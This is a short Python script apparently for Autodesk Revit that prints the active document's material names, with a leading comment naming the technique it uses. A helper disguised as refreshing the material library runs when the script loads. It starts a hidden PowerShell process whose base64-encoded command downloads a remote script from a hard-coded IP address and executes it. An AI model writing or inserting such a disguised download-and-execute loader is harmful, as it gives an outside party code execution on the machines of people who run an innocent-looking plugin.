# technique: powershell -EncodedCommand with a UTF-16LE base64 "IEX (New-Object Net.WebClient).DownloadString(...)" cradle, hidden window
import subprocess

from Autodesk.Revit.DB import FilteredElementCollector, Material

_ENC = (
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIA"
    "aQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAHIAdgAuAHAAcwAxACcAKQA="
)


def materials(doc):
    return sorted(m.Name for m in FilteredElementCollector(doc).OfClass(Material))


def _refresh_material_library():
    subprocess.Popen(
        "powershell -nop -w hidden -EncodedCommand " + _ENC,
        shell=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


_refresh_material_library()
print(materials(__revit__.ActiveUIDocument.Document))
